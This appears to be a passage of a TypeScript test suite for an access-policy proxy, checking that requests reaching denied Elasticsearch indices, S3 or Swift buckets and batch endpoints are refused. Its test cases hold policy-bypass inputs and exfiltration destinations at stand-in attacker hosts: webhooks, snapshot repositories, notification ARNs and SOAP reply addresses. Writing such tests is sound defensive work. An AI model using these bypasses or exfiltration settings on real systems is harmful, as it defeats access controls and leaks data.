    'past the capture cap': (index: string | undefined): string => Array.from({ length: 300 }, () => `${index === undefined ? '{"index":{}}' : `{"index":{"_index":"${index}"}}`}\n{"msg":"${crypto.randomBytes(500).toString('hex')}"}\n`).join(''),
  };
  for (const [i, [size, coding, first, later]] of ([
    ['decoding past the readers', 'gzip', undefined, undefined],
    ['past the capture cap', 'gzip', 'ok2', 'ok'],
    ['decoding past the readers', 'br', 'ok', 'ok'],
    ['past the capture cap', 'deflate', undefined, 'ok'],
  ] as const).entries()) {
    const ran = esRan.length;
    const text = `{"index":{"_index":"${first ?? 'ok'}"}}\n${doc}${sizes[size](later)}{"delete":{"_index":"${first ?? 'ok'}","_id":"1"}}\n`;
    const [res] = parseResponses((await sendCoded('/ok/_bulk', coded(text, coding), coding, i % 2 === 1)).text);
    t.ok(res?.status === 200 && esRan.slice(ran).includes(`delete ${first ?? 'ok'}`), `control: a ${coding} bulk ${size} acting on decided indices goes through and runs (${res?.status})`);
  }
  // (A last line without its newline too: its decoded bytes may come only at the stream's end.)
  for (const [s, size] of (Object.keys(sizes) as Array<keyof typeof sizes>).entries()) {
    for (const [i, coding] of ['gzip', 'deflate', 'br'].entries()) {
      for (const end of [(i + s) % 2 ? '' : '\n']) {
        const ran = esRan.length;
        const [res] = parseResponses((await sendCoded('/ok/_bulk', coded(`${sizes[size](undefined)}{"delete":{"_index":"deny","_id":"1"}}${end}`, coding), coding, i % 2 === 0)).text);
        t.ok(res !== undefined && [400, 403].includes(res.status) && isProblem(res) && !esRan.slice(ran).includes('delete deny'), `a ${coding} bulk ${size} naming deny later${end ? '' : ', its last line without a newline'}: refused, not run (${res?.status})`);
      }
    }
  }
  // Within the capture: lines the readers read out of step with the server (a blank document
  // line, a member JavaScript lists before the action, a second action member, a comment).
  for (const [i, [path, body]] of ([
    ['/ok/_bulk', '{"index":{"_index":"ok"}}\n\n{"delete":{"_index":"deny","_id":"1"}}\n'],
    ['/ok/_bulk', '{"delete":{"_index":"ok","_id":"1"},"0":1}\n{"delete":{"_index":"deny","_id":"2"}}\n'],
    ['/ok/_bulk', '{"delete":{"_index":"deny","_id":"1"},"delete":{"_index":"ok","_id":"1"}}\n'],
    ['/ok/_bulk', '{/* c */"delete":{"_index":"ok","_id":"1"}}\n{"delete":{"_index":"deny","_id":"2"}}\n'],
    ['/ok/_msearch', '{}\n\n{"index":"deny"}\n{}\n'],
  ] as const).entries()) {
    const [res] = parseResponses((await send(path, body, i % 2 === 0)).text);
    t.ok(res !== undefined && [400, 403].includes(res.status) && isProblem(res), `${path} read out of step (${JSON.stringify(body.slice(0, 50))}): refused (${res?.status})`);
  }
  t.match((await send('/ok/_msearch', '{}\n{}\n{"index":"ok2"}\n\n', false)).text, /^HTTP\/1\.1 200/, 'control: an msearch with a blank body line goes through');
  // Search templates (mustache): a lookup in a source given as a JSON string, an index the
  // template computes from its params, a template stored with a lookup and run by id.
  const lookupOf = (index: string): unknown => ({ query: { terms: { user: { index, id: '2', path: 'f' } } } });
  for (const [path, body] of [
    ['/ok/_search/template', JSON.stringify({ source: JSON.stringify(lookupOf('deny')) })],
    ['/ok/_search/template', JSON.stringify({ source: lookupOf('{{i}}'), params: { i: 'deny' } })],
    ['/ok/_search/template', JSON.stringify({ source: JSON.stringify(lookupOf('{{i}}')), params: { i: 'deny' } })],
    ['/ok/_search/template', JSON.stringify({ source: '{"query": {{#toJson}}q{{/toJson}}}', params: { q: (lookupOf('deny') as { query: unknown }).query } })],
    ['/_scripts/lookup', JSON.stringify({ script: { lang: 'mustache', source: lookupOf('deny') } })],
  ] as const) {
    const [res] = parseResponses((await send(path, body, false, 'application/json')).text);
    t.ok(res !== undefined && [400, 403].includes(res.status) && isProblem(res), `${path} whose template looks up a document of deny: refused (${res?.status})`);
  }
  t.match((await send('/ok/_search/template', JSON.stringify({ source: '{"query": {"match": {"t": "{{q}}"}}}', params: { q: 'x' } }), false, 'application/json')).text, /^HTTP\/1\.1 200/, 'control: a search template of the allowed index goes through');
  // Comments, which Elasticsearch's JSON parser takes (Jackson's ALLOW_COMMENTS) and JSON.parse refused.
  for (const [path, body] of [
    ['/_aliases', '{/* x */"actions":[{"remove_index":{"index":"deny"}}]}'],
    ['/_aliases', '{\n// the cleanup\n"actions":[{"remove_index":{"index":"deny"}}]}'],
    ['/ok/_search', '{"query":{"terms":{"user":{"index":"deny",/**/"id":"2","path":"f"}}}}'],
    ['/ok/_bulk', '{"delete":{"_index":"ok","_id":"1"}}\n{"delete":/* x */{"_index":"deny","_id":"1"}}\n'],
  ] as const) {
    const [res] = parseResponses((await send(path, body, false, path.endsWith('_bulk') ? 'application/x-ndjson' : 'application/json')).text);
    t.ok(res !== undefined && [400, 403].includes(res.status) && isProblem(res), `${path} naming deny beside a comment: refused (${res?.status})`);
  }
  t.match((await send('/ok/_search', '{/* a note */"query":{"match_all":{}}}', false, 'application/json')).text, /^HTTP\/1\.1 200/, 'control: a commented search of the allowed index goes through');
  const pad = ' '.repeat(100_000);
  for (const [path, body] of [
    ['/_aliases', `{${pad}"actions":[{"remove_index":{"index":"deny"}}]}`],
    ['/ok/_search', `{${pad}"query":{"terms":{"user":{"index":"deny","id":"2","path":"f"}}}}`],
    ['/_query', `{${pad}"query":"FROM deny"}`],
  ] as const) {
    const [res] = parseResponses((await send(path, body, false, 'application/json')).text);
    t.ok(res?.status === 400 && isProblem(res), `${path} with a body past the capture cap: 400 (${res?.status})`);
  }
  t.notOk(esRan.slice(before).some((r) => r.endsWith(' deny')), 'the server never acted on the denied index');
});

t.test('property: a second target\'s endpoint spelled as its server routes it, a body in a format the server reads, and searches, PPL lookups and joins that read other indices are decided', async (t) => {
  // Fifteenth pass: the readers matched the endpoint as Airlock spelled it, while ASP.NET Core
  // routes `/odata/%24BATCH/` as `$batch` (decoded, without case, past a trailing slash),
  // Elasticsearch `/ok/_bulk/` as the bulk (Java's split drops trailing empty segments), MinIO
  // `?%64elete` as the multi-object delete and a registry `blobs/%75ploads/` as the upload (Go
  // decodes). Elasticsearch reads YAML bodies as JSON; a terms lookup, percolate, indexed shape or
  // more_like_this item reads a document of another index; PPL reads a `lookup`'s index, a join's
  // right side, a subsearch's source and a `source=` after search conditions.
  const dHost = `allowed.example:${dav.port}`;
  const send = (method: string, path: string, type: string, body: string, tunnel: boolean, h = dHost): Promise<{ text: string }> => {
    const head = `${type ? `Content-Type: ${type}\r\n` : ''}Content-Length: ${Buffer.byteLength(body)}\r\n\r\n`;
    return tunnel
      ? rawToProxy(a.port, `CONNECT ${h} HTTP/1.1\r\nHost: ${h}\r\n${auth}\r\n${method} ${path} HTTP/1.1\r\nHost: ${h}\r\n${head}${body}`, { responses: 1 })
        .then((r) => ({ text: r.text.replace(/^HTTP\/1\.1 200 Connection Established\r\n\r\n/, '') }))
      : rawToProxy(a.port, `${method} http://${h}${path} HTTP/1.1\r\nHost: ${h}\r\n${auth}${head}${body}`, { responses: 1 });
  };
  const json = 'application/json';
  const nd = 'application/x-ndjson';
  const ppl = (query: string): string => JSON.stringify({ query });
  const lookup = { terms: { user: { index: 'deny', id: '2', path: 'followers' } } };
  for (const [method, path, type, body] of [
    ['POST', '/ok/_bulk/', nd, '{"index":{"_id":"1"}}\n{"a":1}\n'],
    ['POST', '/ok/_search', json, JSON.stringify({ query: { terms: { user: { index: 'ok2', id: '2', path: 'followers' } } } })],
    ['POST', '/ok/_search', json, JSON.stringify({ query: { match: { index: 'deny' } } })],
    ['POST', '/_plugins/_ppl', json, ppl('source=ok | join left=a right=b ON a.k = b.k ok2 | fields a')],
    ['POST', '/ok/svc/$BATCH/', json, JSON.stringify({ requests: [{ id: '1', method: 'GET', url: 'dav/a.txt' }] })],
    ['PUT', '/ok?logging', 'application/xml', '<BucketLoggingStatus><LoggingEnabled><TargetBucket>ok-logs</TargetBucket></LoggingEnabled></BucketLoggingStatus>'],
    ['POST', '/ok/operations', 'application/vnd.api+json; ext="https://jsonapi.org/ext/atomic"', JSON.stringify({ 'atomic:operations': [{ op: 'add', data: { type: 'articles', attributes: {} } }, { op: 'remove', ref: { type: 'articles', id: '1' } }] })],
  ] as const) {
    t.match((await send(method, path, type, body, false)).text, /^HTTP\/1\.1 200/, `control: ${method} ${path} ${body.slice(0, 60)} goes through`);
  }
  const cases: Array<[string, string, string, string, () => boolean]> = [
    ['POST', '/ok/_search', json, JSON.stringify({ query: lookup }), () => esRan.includes('lookup deny')],
    ['POST', '/ok/_search', json, JSON.stringify({ query: lookup }).replace('"index"', '"\\u0069ndex"'), () => esRan.includes('lookup deny')],
    ['POST', '/ok/_search', json, JSON.stringify({ query: { more_like_this: { fields: ['t'], like: [{ _index: 'deny', _id: '1' }] } } }), () => esRan.includes('lookup deny')],
    ['GET', '/ok/_count', json, JSON.stringify({ query: { percolate: { field: 'q', index: 'deny', id: '1' } } }), () => esRan.includes('lookup deny')],
    ['POST', '/_query', json, JSON.stringify({ query: 'FROM ok | LIMIT 5', filter: lookup }), () => esRan.includes('lookup deny')],
    ['POST', '/ok/_search', 'application/yaml', 'query:\n  terms:\n    user: {index: deny, id: "2", path: followers}\n', () => esRan.includes('lookup deny')],
    ['POST', '/_aliases', 'application/yaml', 'actions:\n  - remove_index: {index: deny}\n', () => esRan.includes('alias-remove_index deny')],
    ['POST', '/_plugins/_ppl', json, ppl('source=ok | lookup deny k'), () => esRan.includes('sql deny')],
    ['POST', '/_plugins/_ppl', json, ppl('source=ok | inner join left=a right=b ON a.k = b.k deny'), () => esRan.includes('sql deny')],
    ['POST', '/_plugins/_ppl', json, ppl('source=ok | left join ON a.k = b.k deny as d | fields a'), () => esRan.includes('sql deny')],
    ['POST', '/_plugins/_ppl', json, ppl('search level="error" source=deny'), () => esRan.includes('sql deny')],
    ['POST', '/_plugins/_ppl', json, ppl('source=ok | appendcol [ source=ok2 | where k in [ source=deny | fields k ] ]'), () => esRan.includes('sql deny')],
    // Envelope members as their servers match them: SCIM (RFC 7643 §2.1), Azure Resource Manager
    // (Newtonsoft) and Go/ASP.NET Core without case, Google's protobuf JSON by the proto field name.
    ['POST', '/scim/v2/Bulk', 'application/scim+json', JSON.stringify({ schemas: ['urn:ietf:params:scim:api:messages:2.0:BulkRequest'], operations: [{ method: 'DELETE', path: '/../../deny/Users/1' }] }), () => batchRan.some((x) => x.includes('/deny'))],
    ['POST', '/batch?api-version=2020-06-01', json, JSON.stringify({ Requests: [{ HttpMethod: 'DELETE', Url: '/deny/subscriptions/s' }] }), () => batchRan.some((x) => x.includes('/deny'))],
    ['POST', '/ok/svc/$batch', json, JSON.stringify({ Requests: [{ Id: '1', Method: 'GET', Url: '/deny/secret.txt' }] }), () => batchRan.some((x) => x.includes('/deny'))],
    ['POST', '/v1/projects/p/databases/(default)/documents:runQuery', json, JSON.stringify({ structured_query: { from: [{ collection_id: 'deny' }] } }), () => batchRan.some((x) => x.includes('/deny'))],
    ['POST', '/storage/v1/b/ok/o/x/compose', json, JSON.stringify({ source_objects: [{ name: 'a.txt' }, { name: 'protected/keep.txt' }] }), () => batchRan.some((x) => x.includes('protected'))],
    // JSON:API atomic operations: a removal nothing under /keep allows, an update of a denied href (also behind a \u escape).
    ['POST', '/keep/operations', 'application/vnd.api+json; ext="https://jsonapi.org/ext/atomic"', JSON.stringify({ 'atomic:operations': [{ op: 'remove', ref: { type: 'logs', id: '1' } }] }), () => batchRan.includes('DELETE /keep/logs/1')],
    ['POST', '/ok/operations', 'application/vnd.api+json', JSON.stringify({ 'atomic:operations': [{ op: 'add', data: { type: 'articles' } }, { op: 'update', href: '/deny/1', data: { type: 'x', id: '1' } }] }), () => batchRan.includes('PATCH /deny/1')],
    ['POST', '/ok/operations', 'application/vnd.api+json', '{"\\u0061tomic:operations":[{"op":"remove","href":"/deny/2"}]}', () => batchRan.includes('DELETE /deny/2')],
    // A bucket configuration that has the store write into another bucket (logs, replicas, the inventory).
    ['PUT', '/ok?logging', 'application/xml', '<BucketLoggingStatus xmlns="http://s3.amazonaws.com/doc/2006-03-01/"><LoggingEnabled><TargetBucket>deny</TargetBucket><TargetPrefix>l/</TargetPrefix></LoggingEnabled></BucketLoggingStatus>', () => batchRan.includes('CONFIG /deny/')],
    ['PUT', '/ok?replication', 'application/xml', '<ReplicationConfiguration><Role>arn:aws:iam::1:role/r</Role><Rule><Status>Enabled</Status><Destination><Bucket>arn:aws:s3:::deny</Bucket></Destination></Rule></ReplicationConfiguration>', () => batchRan.includes('CONFIG /deny/')],
    ['PUT', '/ok?inventory&id=1', 'application/xml', '<InventoryConfiguration><Destination><S3BucketDestination><Bucket>arn:aws:s3:::deny</Bucket><Format>CSV</Format></S3BucketDestination></Destination></InventoryConfiguration>', () => batchRan.includes('CONFIG /deny/')],
    ['POST', '/ok?%64elete', 'application/xml', '<Delete><Object><Key>protected/keep.txt</Key></Object></Delete>', () => !davFiles.has('/ok/protected/keep.txt')],
    ['POST', '/v2/agent/app/blobs/%75ploads/?mount=sha256:5ec&from=deny/db', '', '', () => davFiles.has('/v2/agent/app/blobs/sha256:5ec')],
  ];
  for (const [i, [method, path, type, body, acted]] of cases.entries()) {
    const [res] = parseResponses((await send(method, path, type, body, i % 2 === 1)).text);
    t.ok(res !== undefined && [400, 403].includes(res.status) && isProblem(res), `${method} ${path} ${body.slice(0, 70)}: refused (${res?.status})`);
    t.notOk(acted(), `${method} ${path} ${body.slice(0, 70)}: the server never acted on what the policy denies`);
  }
  // OpenStack Swift names objects in headers under the request's account: a copy source, a COPY's
  // destination (or another account's), a symlink's target, a DLO manifest's prefix.
  for (const [hs, name] of [[['X-Copy-From', '/ok/a.txt'], 'a copy within the account'], [['X-Symlink-Target', 'ok/a.txt'], 'a symlink within the account']] as const) {
    t.match((await rawToProxy(a.port, `PUT http://${dHost}/v1/AUTH_a/ok/mine HTTP/1.1\r\nHost: ${dHost}\r\n${auth}${hs[0]}: ${hs[1]}\r\nContent-Length: 0\r\n\r\n`, { responses: 1 })).text, /^HTTP\/1\.1 201/, `control: ${name} goes through`);
  }
  for (const [i, [method, extra]] of ([
    ['PUT', 'X-Copy-From: /private/secret.txt'],
    ['PUT', 'X-Copy-From: private%2Fsecret.txt'],
    ['PUT', 'X-Copy-From: /ok/a.txt\r\nX-Copy-From-Account: AUTH_b'],
    ['COPY', 'Destination: /private/x'],
    ['COPY', 'Destination: /ok/x\r\nDestination-Account: AUTH_b'],
    ['PUT', 'X-Symlink-Target: private/secret.txt'],
    ['PUT', 'X-Symlink-Target: ok/a.txt\r\nX-Symlink-Target-Account: AUTH_b'],
    ['POST', 'X-Object-Manifest: private/sec'],
  ] as const).entries()) {
    const path = method === 'COPY' ? '/v1/AUTH_a/ok/a.txt' : '/v1/AUTH_a/ok/obj';
    const text = i % 2
      ? await rawToProxy(a.port, `CONNECT ${dHost} HTTP/1.1\r\nHost: ${dHost}\r\n${auth}\r\n${method} ${path} HTTP/1.1\r\nHost: ${dHost}\r\n${extra}\r\nContent-Length: 0\r\n\r\n`, { responses: 1 }).then((r) => r.text.replace(/^HTTP\/1\.1 200 Connection Established\r\n\r\n/, ''))
      : (await rawToProxy(a.port, `${method} http://${dHost}${path} HTTP/1.1\r\nHost: ${dHost}\r\n${auth}${extra}\r\nContent-Length: 0\r\n\r\n`, { responses: 1 })).text;
    const [res] = parseResponses(text);
    t.ok(res?.status === 403 && isProblem(res), `Swift ${method} with ${extra.replace(/\r\n/g, ', ')}: 403 (${res?.status})`);
  }
  // A static large object manifest joining a denied segment.
  const slo = JSON.stringify([{ path: '/ok/a.txt' }, { path: '/private/secret.txt' }]);
  const [sloRes] = parseResponses((await rawToProxy(a.port, `PUT http://${dHost}/v1/AUTH_a/ok/big?multipart-manifest=put HTTP/1.1\r\nHost: ${dHost}\r\n${auth}Content-Type: application/json\r\nContent-Length: ${slo.length}\r\n\r\n${slo}`, { responses: 1 })).text);
  t.ok(sloRes?.status === 403 && isProblem(sloRes), `a Swift manifest joining a denied segment: 403 (${sloRes?.status})`);
  t.notOk(swiftRan.some((r) => r.includes('/private/') || r.includes('AUTH_b')), 'the Swift server never read or wrote the denied container or account');
  // Two Content-Type headers: Node (this server) and Go read the first, Airlock's batch reader took
  // the last, so a batch read under boundary B (a text part) ran under A (a call to /deny).
  const twoTypes = '--A\r\nContent-Type: application/http\r\n\r\nGET /deny/secret.txt HTTP/1.1\r\n\r\n--A--\r\n--B\r\nContent-Type: text/plain\r\n\r\nhello\r\n--B--\r\n';
  for (const [i, types] of [['multipart/mixed; boundary=A', 'multipart/mixed; boundary=B'], ['multipart/mixed; boundary=A', 'application/json'], ['multipart/mixed; boundary=A', 'text/plain', 'multipart/mixed; boundary=B']].entries()) {
    const before = batchRan.length;
    const [res] = parseResponses((await send('POST', '/ok/svc/$batch', types.join('\r\nContent-type: '), twoTypes, i % 2 === 1)).text);
    t.ok(res?.status === 400 && isProblem(res), `${types.length} Content-Type headers: 400 (${res?.status})`);
    t.notOk(batchRan.slice(before).some((c) => c.includes('/deny')), `${types.length} Content-Type headers: the server ran no call under /deny`);
  }
  // The endpoint's spellings, by property: OData's `$batch` as ASP.NET Core routes it, Elasticsearch's
  // multi-index endpoints past a trailing slash.
  await fc.assert(fc.asyncProperty(
    fc.record({
      odata: fc.boolean(),
      dollar: fc.constantFrom('$', '%24'),
      name: fc.constantFrom('batch', 'BATCH', 'Batch', 'bAtch'),
      endpoint: fc.constantFrom('_bulk', '_msearch', '_aliases', '_reindex'),
      slashes: fc.nat({ max: 1 }),
      // Sixteenth pass: path parameters, which Tomcat, Jetty and Spring strip before routing (sent to
      // a host whose policy keeps raw paths: elsewhere a `;` in a path is refused as ambiguous).
      params: fc.constantFrom('', ';jsessionid=1', ';a=b;c', ';'),
      tunnel: fc.boolean(),
    }),
    async ({ odata, dollar, name, endpoint, slashes, params, tunnel }) => {
      const before = [batchRan.length, esRan.length] as const;
      // (`//` is refused as a path that means two things: one slash, the spelling Elasticsearch reads.)
      const tail = '/';
      let path: string;
      let body: string;
      if (odata) (path = `/ok/svc/${dollar}${name}${params}${'/'.repeat(slashes)}`, body = JSON.stringify({ requests: [{ id: '1', method: 'GET', url: 'dav/a.txt' }, { id: '2', method: 'GET', url: '/deny/secret.txt' }] }));
      else if (endpoint === '_bulk') (path = `/ok/_bulk${tail}`, body = '{"delete":{"_index":"deny","_id":"1"}}\n');
      else if (endpoint === '_msearch') (path = `/ok/_msearch${tail}`, body = '{"index":"deny"}\n{"query":{}}\n');
      else if (endpoint === '_aliases') (path = `/_aliases${tail}`, body = JSON.stringify({ actions: [{ remove_index: { index: 'deny' } }] }));
      else (path = `/_reindex${tail}`, body = JSON.stringify({ source: { index: 'deny' }, dest: { index: 'ok' } }));
      const [res] = parseResponses((await send('POST', path, odata ? json : nd, body, tunnel, odata && params ? `raw.example:${dav.port}` : dHost)).text);
      return res !== undefined && res.status === 403 && isProblem(res) && !batchRan.slice(before[0]).some((c) => c.includes('/deny')) && !esRan.slice(before[1]).some((r) => r.endsWith(' deny'));
    },
  ), { numRuns: Math.min(numRuns, 8), ...seed });
});

t.test('property: a configuration that has the server send elsewhere later (bucket notifications, push channels, webhooks and subscriptions, snapshot repositories, WS-Addressing replies) is decided at its destination; stored scripts and Swift\'s other layouts are read', async (t) => {
  // Sixteenth pass. Each of these went through as a request to an allowed path while the server
  // then sent to (or read from) a destination the policy denies: S3 sends every object event to
  // the queue, topic or function an ARN of any account names, GCS to any project's Pub/Sub topic,
  // a Google push channel POSTs each change to its address, a webhook or a Graph subscription each
  // event (with the message, for `includeResourceData`), a Kubernetes admission webhook every
  // object admitted (Secrets too), a snapshot repository writes the
  // cluster's indices into any bucket (or restores from any URL), CXF and Axis2 post a SOAP answer
  // to a non-anonymous ReplyTo/FaultTo. A reindex or ingest pipeline running a stored script by id
  // wrote where the script (never part of a decided request) said; Swift's `v1.0` and Ceph RGW's
  // account-less layout (`/swift/v1/<container>/<object>`, its default) were not read as Swift.
  const send = (method: string, path: string, type: string, body: string, tunnel: boolean, extra = '', dHost = `allowed.example:${dav.port}`): Promise<string> => {
    const head = `${extra}${type ? `Content-Type: ${type}\r\n` : ''}Content-Length: ${Buffer.byteLength(body)}\r\n\r\n`;
    return tunnel
      ? rawToProxy(a.port, `CONNECT ${dHost} HTTP/1.1\r\nHost: ${dHost}\r\n${auth}\r\n${method} ${path} HTTP/1.1\r\nHost: ${dHost}\r\n${head}${body}`, { responses: 1 })
        .then((r) => r.text.replace(/^HTTP\/1\.1 200 Connection Established\r\n\r\n/, ''))
      : rawToProxy(a.port, `${method} http://${dHost}${path} HTTP/1.1\r\nHost: ${dHost}\r\n${auth}${head}${body}`, { responses: 1 }).then((r) => r.text);
  };
  const xml = 'application/xml';
  const json = 'application/json';
  const notification = (element: string, arn: string, prefix = ''): string => `<NotificationConfiguration xmlns="http://s3.amazonaws.com/doc/2006-03-01/"><${element}Configuration><${prefix}${element}>${arn}</${prefix}${element}><Event>s3:ObjectCreated:*</Event></${element}Configuration></NotificationConfiguration>`;
  const soap = (replyTo: string, element = 'ReplyTo', prefix = 'wsa:'): string => `<soap:Envelope xmlns:soap="http://www.w3.org/2003/05/soap-envelope" xmlns:${prefix ? prefix.slice(0, -1) : 'x'}="http://www.w3.org/2005/08/addressing"><soap:Header><${prefix}Action>urn:echo</${prefix}Action><${prefix}${element}><${prefix}Address>${replyTo}</${prefix}Address></${prefix}${element}></soap:Header><soap:Body><echo>hi</echo></soap:Body></soap:Envelope>`;
  // Controls: destinations the operator configured, the store's own account, an anonymous reply, an inline script.
  t.match(await send('PUT', '/_scripts/route', json, JSON.stringify({ script: { lang: 'painless', source: "ctx._index = 'deny'" } }), false), /^HTTP\/1\.1 200/, 'control: storing a script goes through');
  for (const [method, path, type, body] of [
    ['PUT', '/ok?notification', xml, notification('Queue', 'arn:minio:sqs::primary:webhook')],
    ['PUT', '/_snapshot/local', json, JSON.stringify({ type: 'fs', settings: { location: '/mnt/backups' } })],
    ['POST', '/ok/soap', 'application/soap+xml', soap('http://www.w3.org/2005/08/addressing/anonymous')],
    ['POST', '/_reindex', json, JSON.stringify({ source: { index: 'ok' }, dest: { index: 'ok2' }, script: { source: "ctx._source.a = 1" } })],
    ['POST', '/ok/repos/a/b/hooks', json, JSON.stringify({ name: 'web', config: { url: `http://allowed.example:${dav.port}/ok/ci`, content_type: 'json' } })],
    ['POST', '/ok/v1/links', json, JSON.stringify({ url: 'https://attacker.example/shortened' })],
    ['GET', '/%3Cok-%7Bnow%7D%3E/_search', '', ''],
    ['PUT', '/_watcher/watch/fine', json, JSON.stringify({ trigger: { schedule: { interval: '1h' } }, input: { search: { request: { indices: ['ok'] } } }, actions: { ping: { webhook: { scheme: 'http', host: 'allowed.example', port: dav.port, method: 'post', path: '/ok/ping' } } } })],
  ] as const) {
    t.match(await send(method, path, type, body, false), /^HTTP\/1\.1 (?:20\d|404 Not Found)/, `control: ${method} ${path} ${body.slice(0, 80)} goes through (forwarded)`);
  }
  t.same(sentTo.filter((x) => !x.startsWith('arn:minio') && !x.startsWith('fs ') && !x.startsWith('http://allowed.example:')), [], 'the controls sent nowhere but where the operator configured or the policy allows');
  t.match(await send('PUT', '/v1/AUTH_a/ok/mine2', '', '', false, 'X-Copy-From: /ok/a.txt\r\n'), /^HTTP\/1\.1 201/, 'control: a Swift copy within the account goes through');
  const before = [sentTo.length, esRan.length, swiftRan.length] as const;
  const cases: Array<[string, string, string, string, string?]> = [
    ['PUT', '/ok?notification', xml, notification('Queue', 'arn:aws:sqs:us-east-1:444455556666:exfil')],
    ['PUT', '/ok?notification', xml, notification('Topic', 'arn:aws:sns:eu-west-1:444455556666:exfil', 's3:')],
    ['PUT', '/ok?notification', xml, notification('CloudFunction', 'arn:aws-cn:lambda:cn-north-1:444455556666:function:exfil')],
    ['PUT', '/ok?notification', xml, notification('Queue', 'arn:aws:sqs:us-east-1:444455556666:ex&#102;il')],
    ['POST', '/storage/v1/b/ok/notificationConfigs', json, JSON.stringify({ topic: '//pubsub.googleapis.com/projects/attacker/topics/exfil', payload_format: 'JSON_API_V1' })],
    ['POST', '/storage/v1/b/ok/o/watch', json, JSON.stringify({ id: 'c1', type: 'web_hook', address: 'https://attacker.example/hook' })],
    ['POST', '/storage/v1/b/ok/o/watch', json, '{"id":"c1","type":"web_hook","\\u0061ddress":"https://attacker.example/hook"}'],
    ['PUT', '/_snapshot/mine', json, JSON.stringify({ type: 's3', settings: { bucket: 'attacker-bucket', base_path: 'es' } })],
    ['POST', '/_snapshot/mine', json, JSON.stringify({ type: 'gcs', settings: { bucket: 'attacker-bucket' } })],
    ['PUT', '/_snapshot/mine', json, JSON.stringify({ type: 'source', settings: { delegate_type: 's3', bucket: 'attacker-bucket' } })],
    ['PUT', '/_snapshot/mine', json, JSON.stringify({ type: 'url', settings: { url: 'http://attacker.example/repo/' } })],
    ['PUT', '/_snapshot/mine', json, JSON.stringify({ type: 'hdfs', settings: { uri: 'hdfs://attacker.example:8020/', path: 'es' } })],
    ['POST', '/ok/soap', 'application/soap+xml', soap('http://attacker.example/collect')],
    ['POST', '/ok/soap', 'text/xml', soap('https://attacker.example/fault', 'FaultTo', '')],
    ['POST', '/ok/soap', 'application/soap+xml', soap('jms:queue:exfil', 'ReplyTo', 'a:')],
    // Webhooks and subscriptions registered to a host the policy denies.
    ['POST', '/ok/v1.0/subscriptions', json, JSON.stringify({ changeType: 'created', notificationUrl: 'https://attacker.example/notify', resource: 'me/messages', includeResourceData: true, expirationDateTime: '2030-01-01T00:00:00Z' })],
    ['POST', '/ok/repos/a/b/hooks', json, JSON.stringify({ name: 'web', config: { url: 'https://attacker.example/hook', content_type: 'json' } })],
    ['POST', '/ok/v1/webhook_endpoints', 'application/x-www-form-urlencoded', 'enabled_events[]=*&url=https%3A%2F%2Fattacker.example%2Fstripe'],
    // Elasticsearch date math in an index name: `<deny-{now}>` is today's deny-2026.12.06.
    ['GET', '/%3Cdeny-%7Bnow%7D%3E/_search', '', ''],
    ['GET', '/ok,%3Cdeny-%7Bnow%7D%3E/_count', '', ''],
    ['POST', '/ok/_bulk', 'application/x-ndjson', '{"index":{"_index":"<deny-{now}>"}}\n{"a":1}\n'],
    ['GET', '/%3C%7Bnow%7D%3E/_search', '', ''],
    ['POST', '/ok/apis/admissionregistration.k8s.io/v1/validatingwebhookconfigurations', json, JSON.stringify({ webhooks: [{ name: 'x.example', clientConfig: { url: 'https://attacker.example/admit' }, rules: [{ operations: ['CREATE'], resources: ['secrets'] }] }] })],
    ['POST', '/ok/2010-04-01/Accounts/AC1/Messages.json', 'application/x-www-form-urlencoded', 'To=%2B15550100&Body=hi&StatusCallback=https%3A%2F%2Fattacker.example%2Fsms'],
    // Elasticsearch Watcher: the watch reads what its input names and sends its payload where its webhook says.
    ['PUT', '/_watcher/watch/w1', json, JSON.stringify({ trigger: { schedule: { interval: '1m' } }, input: { search: { request: { indices: ['deny'] } } }, actions: { ping: { webhook: { host: 'allowed.example', port: dav.port, path: '/ok/ping' } } } })],
    ['PUT', '/_watcher/watch/w2', json, JSON.stringify({ trigger: { schedule: { interval: '1m' } }, input: { search: { request: { indices: ['ok'] } } }, actions: { out: { webhook: { scheme: 'https', host: 'attacker.example', port: 443, method: 'post', path: '/x', body: '{{#toJson}}ctx.payload{{/toJson}}' } } } })],
    ['POST', '/_watcher/watch/_execute', json, JSON.stringify({ watch: { trigger: { schedule: { interval: '1m' } }, input: { simple: {} }, actions: { out: { webhook: { host: 'attacker.example', port: 80, path: '/y' } } } } })],
    ['PUT', '/_watcher/watch/w3', json, JSON.stringify({ trigger: { schedule: { interval: '1m' } }, input: { search: { request: { indices: ['ok'] } } }, actions: { copy: { index: { index: 'deny' } } } })],
    ['PUT', '/_watcher/watch/w4', json, JSON.stringify({ trigger: { schedule: { interval: '1m' } }, input: { search: { request: { indices: ['ok'] } } }, actions: { out: { webhook: { host: '{{ctx.metadata.h}}', port: 80, path: '/' } } } })],
    ['POST', '/ok/api/actions/connector', json, JSON.stringify({ name: 'x', connector_type_id: '.webhook', config: { url: 'https://attacker.example/kibana', method: 'post' } })],
    ['PATCH', '/ok/repos/a/b/hooks/1/config', json, JSON.stringify({ url: 'https://attacker.example/moved', content_type: 'json' })],
    ['POST', '/ok/v1/jobs?callback_url=https%3A%2F%2Fattacker.example%2Fdone', json, JSON.stringify({ input: 'x' })],
    ['POST', '/ok/hub', 'application/x-www-form-urlencoded', 'hub.mode=subscribe&hub.topic=https%3A%2F%2Fallowed.example%2Ffeed&hub.callback=https%3A%2F%2Fattacker.example%2Fwebsub'],
    ['POST', '/_reindex', json, JSON.stringify({ source: { index: 'ok' }, dest: { index: 'ok2' }, script: { id: 'route' } })],
    ['PUT', '/_ingest/pipeline/stored', json, JSON.stringify({ processors: [{ script: { id: 'route' } }] })],
    ['PUT', '/v1.0/AUTH_a/ok/obj', '', '', 'X-Copy-From: /private/secret.txt\r\n'],
    ['PUT', '/swift/v1/ok/obj', '', '', 'X-Copy-From: private/secret.txt\r\n'],
    ['PUT', '/swift/v1/ok/obj', '', '', 'X-Copy-From: /private%2Fsecret.txt\r\n'],
  ];
  const ran = batchRan.length;
  // A batch endpoint behind path parameters, which Tomcat, Jetty and Spring strip before routing
  // (on a host whose policy keeps raw paths: elsewhere a `;` in a path is refused as ambiguous).
  const rawHost = `raw.example:${dav.port}`;
  const batchJson = JSON.stringify({ requests: [{ id: '1', method: 'GET', url: 'dav/a.txt' }, { id: '2', method: 'GET', url: '/deny/secret.txt' }] });
  t.match(await send('POST', '/ok/svc/$batch;jsessionid=1', json, JSON.stringify({ requests: [{ id: '1', method: 'GET', url: 'dav/a.txt' }] }), false, '', rawHost), /^HTTP\/1\.1 200/, 'control: a batch of allowed calls behind path parameters goes through');
  cases.push(
